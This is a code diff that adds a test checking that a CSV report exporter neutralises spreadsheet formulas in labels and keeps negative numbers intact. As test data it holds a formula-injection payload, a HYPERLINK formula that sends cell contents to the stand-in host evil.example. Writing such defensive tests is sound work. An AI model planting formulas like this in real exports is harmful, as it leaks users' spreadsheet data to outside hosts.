@@ -83,3 +83,18 @@ def test_every_report_renders(hs: Session) -> None:
 def test_table_rejects_ragged_rows() -> None:
     with pytest.raises(ValueError, match="does not match"):
         Table("t", "T", (Column("a", "a"),), [(1, 2)])
+
+
+def test_csv_neutralises_formulas_in_labels_and_keeps_negative_numbers(hs: Session) -> None:
+    from sqlalchemy import select
+
+    from ivr.db.models import Reason
+
+    forgot = hs.scalars(select(Reason).where(Reason.code == "forgot")).one()
+    forgot.labels = {**forgot.labels, "en": '=HYPERLINK("http://evil.example/?"&A1,"click")'}
+    hs.flush()
+    buf = io.StringIO()
+    to_csv(reasons_report(hs, PERIOD, language="en"), buf)
+    rows = list(csv.reader(io.StringIO(buf.getvalue().split("\n\n")[0])))
+    assert ["reasons", "uncontrollable", "forgot", '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+            "35.00", "4", "33.33", "-1.67"] in rows
